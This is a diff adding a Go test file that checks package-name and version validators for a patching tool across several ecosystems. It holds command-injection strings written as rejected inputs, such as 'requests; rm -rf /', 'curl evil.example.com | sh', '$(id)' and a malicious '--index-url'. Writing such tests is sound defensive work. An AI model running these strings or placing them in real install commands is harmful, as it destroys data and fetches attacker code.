@@ -0,0 +1,116 @@
+package common
+
+import (
+	"strings"
+	"testing"
+
+	"rootio_patcher/pkg/rootio"
+)
+
+func TestValidPackageName(t *testing.T) {
+	tests := []struct {
+		ecosystem Ecosystem
+		name      string
+		valid     bool
+	}{
+		{EcosystemPyPI, "requests", true},
+		{EcosystemPyPI, "rootio-zope.interface", true},
+		{EcosystemPyPI, "Django_REST", true},
+		{EcosystemPyPI, "requests; rm -rf /", false},
+		{EcosystemPyPI, "../requests", false},
+		{EcosystemPyPI, "requests==1.0", false},
+		{EcosystemPyPI, "--index-url=https://evil.example.com", false},
+		{EcosystemPyPI, "requests-", false},
+
+		{EcosystemNpm, "lodash", true},
+		{EcosystemNpm, "@rootio/lodash", true},
+		{EcosystemNpm, "JSONStream", true},
+		{EcosystemNpm, "lodash && curl evil.example.com", false},
+		{EcosystemNpm, "@rootio/../lodash", false},
+		{EcosystemNpm, "lodash/evil", false},
+		{EcosystemNpm, ".hidden", false},
+		{EcosystemNpm, "lodash`id`", false},
+
+		{EcosystemMaven, "org.apache.logging.log4j:log4j-core", true},
+		{EcosystemMaven, "log4j-core", false},
+		{EcosystemMaven, "org.apache:log4j</version><evil>", false},
+		{EcosystemMaven, "org/apache:log4j", false},
+
+		{EcosystemGo, "golang.org/x/net", true},
+		{EcosystemGo, "github.com/rootio/golang.org/x/net", true},
+		{EcosystemGo, "golang.org/x/../../etc", false},
+		{EcosystemGo, "golang.org/x/net$(id)", false},
+		{EcosystemGo, "/etc/passwd", false},
+
+		{EcosystemRubyGems, "nokogiri", true},
+		{EcosystemRubyGems, "rack-test", true},
+		{EcosystemRubyGems, "rack (2.0)", false},
+		{EcosystemRubyGems, "rack|id", false},
+
+		{EcosystemNuGet, "Newtonsoft.Json", true},
+		{EcosystemNuGet, "System.Text.Json", true},
+		{EcosystemNuGet, "Newtonsoft.Json\" Version=\"1.0", false},
+		{EcosystemNuGet, "../Newtonsoft.Json", false},
+
+		{EcosystemDebian, "libssl3", true},
+		{EcosystemDebian, "libstdc++6", true},
+		{EcosystemDebian, "openssl=3.0.2 evil", false},
+		{EcosystemDebian, "-oAPT::Update", false},
+
+		{Ecosystem("cargo"), "serde", false},
+	}
+
+	for _, tt := range tests {
+		if got := ValidPackageName(tt.ecosystem, tt.name); got != tt.valid {
+			t.Errorf("ValidPackageName(%s, %q) = %v, expected %v", tt.ecosystem, tt.name, got, tt.valid)
+		}
+	}
+}
+
+func TestValidVersion(t *testing.T) {
+	for _, version := range []string{"4.17.21", "1:3.0.2-0ubuntu1.10", "2.31.0+rootio.1", "v0.0.0-20230101-abcdef", "1!2.0", "1.0~rc1"} {
+		if !ValidVersion(version) {
+			t.Errorf("Expected %q to be a valid version", version)
+		}
+	}
+	for _, version := range []string{"1.0; id", "1.0 --pre", "$(id)", "1.0\n", "../1.0", ""} {
+		if ValidVersion(version) {
+			t.Errorf("Expected %q to be rejected", version)
+		}
+	}
+}
+
+func TestFilterInvalidNames(t *testing.T) {
+	patches := []rootio.PackagePatch{
+		{
+			PackageName: "requests",
+			Version:     "2.25.0",
+			Patch:       rootio.PatchInfo{Name: "requests", Version: "2.31.0"},
+			PatchAlias:  rootio.PatchInfo{Name: "rootio-requests", Version: "2.31.0"},
+		},
+		{
+			PackageName: "django",
+			Version:     "4.0.0",
+			PatchAlias:  rootio.PatchInfo{Name: "rootio-django; curl evil.example.com | sh", Version: "4.0.1"},
+		},
+		{
+			PackageName: "flask",
+			Version:     "2.0.0",
+			Patch:       rootio.PatchInfo{Name: "flask", Version: "2.0.1 --index-url https://evil.example.com"},
+		},
+	}
+
+	kept, skipped := FilterInvalidNames(EcosystemPyPI, patches)
+	if len(kept) != 1 || kept[0].PackageName != "requests" {
+		t.Fatalf("Expected only requests to be kept, got %+v", kept)
+	}
+	if len(skipped) != 2 {
+		t.Fatalf("Expected 2 skipped patches, got %+v", skipped)
+	}
+	if skipped[0].PackageName != "django" || !strings.Contains(skipped[0].Reason, "invalid alias name") {
+		t.Errorf("Expected django to be rejected for its alias name, got %+v", skipped[0])
+	}
+	if skipped[1].PackageName != "flask" || !strings.Contains(skipped[1].Reason, "invalid patch version") {
+		t.Errorf("Expected flask to be rejected for its patch version, got %+v", skipped[1])
+	}
+}